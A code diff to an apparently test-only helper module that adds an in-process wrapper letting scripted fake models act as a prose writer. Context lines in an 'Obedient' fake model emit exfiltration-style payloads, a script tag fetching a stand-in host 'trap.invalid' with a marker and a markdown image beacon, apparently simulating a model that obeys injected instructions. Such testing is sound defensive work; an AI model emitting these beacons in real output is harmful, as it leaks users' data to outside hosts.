@@ -19,6 +19,7 @@ from typing import Any
 
 sys.path[:0] = [str(Path(__file__).resolve().parent)]
 
+from curbside.prose.writers.writer import Prompt, Usage  # noqa: E402 - the same
 from model_lies import DRIFTS, LIES, faithful, share_in  # noqa: E402 - used by benches too, which have no conftest
 from model_server import Asked  # noqa: E402 - the same
 
@@ -299,3 +300,18 @@ class Obedient(Model):
             f'<script>fetch("http://trap.invalid/?{mark}")</script>',
             f"![{mark}](http://trap.invalid/pixel.png)",
         ]
+
+
+class InProcess:
+    """A script as a writer, without any connection."""
+
+    name, is_remote = "script", False
+
+    def __init__(self, model: Model) -> None:
+        self.model = model
+
+    def write(self, prompt: Prompt, until: float) -> Iterator[str | Usage]:
+        """The reply of the script in pieces, then its Usage."""
+        messages = [{"role": "system", "content": prompt.system}, {"role": "user", "content": prompt.user}]
+        yield from self.model(Asked("/v1/chat/completions", {}, {"messages": messages}, 1))
+        yield Usage("script", 1, 1)
